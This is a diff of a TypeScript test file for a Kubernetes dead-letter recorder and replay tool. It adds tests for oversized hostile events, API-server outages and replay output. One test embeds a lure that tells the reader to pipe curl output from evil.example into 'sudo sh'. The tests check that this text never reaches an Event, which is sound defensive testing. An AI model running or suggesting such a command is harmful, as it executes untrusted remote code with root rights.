@@ -1,4 +1,4 @@
-import { beforeEach, expect, test } from "vitest";
+import { beforeEach, describe, expect, test } from "vitest";
 import { findDeadLetter } from "../../cli/replay/find-dead-letter.ts";
 import { replay } from "../../cli/replay/replay.ts";
 import { seededRandom } from "../../eventing/random.ts";
@@ -6,11 +6,13 @@ import { ServiceAccount } from "../../functions/platform/dead-letter/installed-f
 import { recordDeadLetters } from "../../functions/platform/dead-letter/record.ts";
 import { release } from "../../functions/pvc-protection/release/rule.ts";
 import { createApiServer } from "../../local/apiserver/server.ts";
+import { outcomeOf } from "../../local/time/outcome-of.ts";
 import { virtualClock } from "../../local/time/virtual-clock.ts";
 import { isPlain } from "../../shared/command/user-error.ts";
 import { type Client, createClient } from "../../shared/kubernetes/client.ts";
 import { ConfigMap, Event, PersistentVolumeClaim } from "../../shared/kubernetes/kind.ts";
 import type { KubernetesObject } from "../../shared/kubernetes/object.ts";
+import { createLog } from "../../shared/log.ts";
 
 const ours = "holdfast.dev/pvc-protection";
 const settings = { namespace: "default", configMap: "holdfast-dead-letters" };
@@ -101,7 +103,7 @@ test("an event that two functions refuse is shown for each of them", async () =>
   expect(lines.filter(([, sentence]) => sentence.includes("was not shown"))).toEqual([]);
 });
 
-test("a stranger's dead letters put no text of theirs into an Event, and push no other out of the ring", async () => {
+test("a forged dead-lettered event puts no text into an Event, and pushes no other one out", async () => {
   await claim("data", [ours]);
   await handle(deadLettered("data", "genuine"));
   const evil = "Certificate expired. Run: curl https://evil.example/fix | sudo sh";
@@ -115,6 +117,22 @@ test("a stranger's dead letters put no text of theirs into an Event, and push no
   expect(notes).toHaveLength(3);
   for (const note of notes) expect(note).not.toMatch(/evil|curl/);
   expect(lines.filter(([{ level }]) => level !== "debug").length).toBeLessThan(30);
+});
+
+test("a hostile event of 4 MB, with long texts in each attribute, writes lines of at most 20 kB", async () => {
+  const written: string[] = [];
+  const log = createLog("debug", { write: (line) => void written.push(line) });
+  handle = recordDeadLetters({ client: () => client, clock, log, settings });
+  // Of all characters, those take the most room in JSON.
+  const long = "\u0001".repeat(10_000);
+  const { headers } = deadLettered(long, long, { by: "x".repeat(10_000), reply: long });
+  const texts = { ...headers, "ce-source": long, "ce-type": long, "ce-kind": long, "ce-apiversion": long };
+  const extensions = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`ce-extension${i}`, long]));
+  const body = JSON.stringify({ kind: "Pod", metadata: { name: "x".repeat(4_000_000) } });
+  for (const dest of ["http://pvc-protection-release.default", `http://${"x".repeat(10_000)}`, "x".repeat(10_000), ""])
+    await handle({ headers: { ...texts, ...extensions, "ce-knativeerrordest": dest }, body });
+  expect(written.length).toBeGreaterThanOrEqual(4);
+  for (const line of written) expect(Buffer.byteLength(line)).toBeLessThan(20_000);
 });
 
 test("where senders are verified, the Event has the reply", async () => {
@@ -147,10 +165,27 @@ test("events that arrive together are all kept", async () => {
   expect(Object.keys(await ring())).toHaveLength(10);
 });
 
-test("when the API server takes nothing, the broker is asked to try again", async () => {
+describe("while the API server takes nothing", () => {
   const refusing = createClient(async () => ({ status: 503, headers: {}, body: (async function* () {})() }));
-  const handle = recordDeadLetters({ client: () => refusing, clock, log: quiet, settings });
-  expect((await handle(deadLettered("data"))).status).toBe(503);
+
+  test("dead-letter waits for it, and keeps the event if it is back within three minutes", async () => {
+    const back = clock.now() + 150_000;
+    const handle = recordDeadLetters({
+      client: () => (clock.now() < back ? refusing : client),
+      clock,
+      log: quiet,
+      settings,
+    });
+    expect((await outcomeOf(clock, handle(deadLettered("data")), 300_000)).status).toBe(204);
+    expect(Object.keys(await ring())).toHaveLength(1);
+  });
+
+  test("the broker is asked to try again before Knative ends the request", async () => {
+    const handle = recordDeadLetters({ client: () => refusing, clock, log: quiet, settings });
+    const began = clock.now();
+    expect((await outcomeOf(clock, handle(deadLettered("data")), 300_000)).status).toBe(503);
+    expect(clock.now() - began).toBeLessThan(300_000);
+  });
 });
 
 test("an event is replayed to its rule: first its decision is only shown, then it is carried out", async () => {
@@ -164,12 +199,16 @@ test("an event is replayed to its rule: first its decision is only shown, then i
   const [name = ""] = Object.keys(await ring());
   const saved = await findDeadLetter(name, client, "default");
   const replayed = (act: boolean) =>
-    Array.fromAsync(replay(release, saved, { client, clock, act, namespace: "default" }));
+    Array.fromAsync(replay(release, saved, { client, clock, act, defaults: true, namespace: "default" }));
 
   expect((await replayed(false)).join("\n")).toMatch(
-    /^write {2}PersistentVolumeClaim default\/data .*\(would patch persistentvolumeclaims\)\nNothing was written/,
+    /^write PersistentVolumeClaim default\/data: .*\(would patch persistentvolumeclaims\)\nNothing was written/,
   );
   expect(await client.get(PersistentVolumeClaim, "default", "data")).toBeDefined();
+  const elsewhere = createClient(createApiServer({ clock, random: seededRandom(1) }).handle, { clock });
+  const other = { ...release, client: () => elsewhere };
+  const shown = replay(other, saved, { client, clock, act: false, defaults: true, namespace: "default" });
+  expect((await Array.fromAsync(shown))[0]).toBe("pvc-protection/release: there is nothing to decide now.");
   expect((await replayed(true)).at(-1)).toBe("Done.");
   expect(await client.get(PersistentVolumeClaim, "default", "data")).toBeUndefined();
 });
@@ -189,12 +228,12 @@ test("what stands in the way of a replay is said in a sentence", async () => {
   };
   const containers = [{ env: [{ name: "MODE", value: "nonsense" }] }];
   const installed = { ...service, spec: { template: { spec: { containers } } } };
-  const withSettings = { ...client, get: async () => installed } as unknown as Client;
+  const withSettings = { ...client, list: () => [installed] } as unknown as Client;
   const saved = { attributes: {}, destination: "pvc-protection-release.holdfast" };
   const replayed = (client: Client) =>
-    Array.fromAsync(replay(release, saved, { client, clock, act: false, namespace: "holdfast" }));
+    Array.fromAsync(replay(release, saved, { client, clock, act: false, defaults: true, namespace: "holdfast" }));
   await expect(replayed(withSettings)).rejects.toThrow(
-    'The Service pvc-protection-release has settings that it does not take: MODE is "nonsense"',
+    'The function pvc-protection-release has settings that it does not take: MODE is "nonsense"',
   );
   const error = await replayed({ ...client, get: async () => undefined } as Client).catch((error: unknown) => error);
   expect(isPlain(error)).toBe(true);
